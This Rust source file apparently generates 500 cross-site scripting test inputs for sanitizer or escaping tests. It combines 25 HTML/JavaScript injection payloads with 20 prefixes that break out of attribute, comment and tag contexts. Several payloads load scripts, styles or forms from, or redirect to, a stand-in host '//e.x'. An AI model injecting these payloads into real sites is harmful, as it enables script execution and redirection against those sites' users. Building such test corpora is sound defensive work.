//! Texts that want to become markup: what would run, times the place out of which it has to break.

/// What would run, load or lead away.
const BASES: [&str; 25] = [
    "<script>alert(1)</script>",
    "<script src=//e.x></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<iframe srcdoc=<svg/onload=alert(1)>>",
    "<a href=javascript:alert(1)>a</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>",
    "<form action=//e.x><input name=x>",
    "<object data=javascript:alert(1)>",
    "<base href=//e.x/>",
    "<meta http-equiv=refresh content=0;//e.x>",
    "<link rel=stylesheet href=//e.x>",
    "<style>@import'//e.x'</style>",
    "<template shadowrootmode=open><slot>",
    " autofocus onfocus=alert(1) x=",
    "javascript:alert(1)",
];

/// What stands before it, to break out of where a value stands.
const CONTEXTS: [&str; 20] = [
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "\"/>",
    "-->",
    "<!--",
    "]]>",
    "</textarea>",
    "</script>",
    "</title>",
    "</style>",
    "</noscript>",
    "</template>",
    "</select>",
    "&quot;&gt;&lt;",
    "\\\";\u{ff1e}\u{ff1c}",
    "a\u{202e}b\u{2028}",
];

/// 500 of them.
pub fn all() -> Vec<String> {
    BASES
        .iter()
        .flat_map(|base| CONTEXTS.iter().map(move |context| format!("{context}{base}")))
        .collect()
}
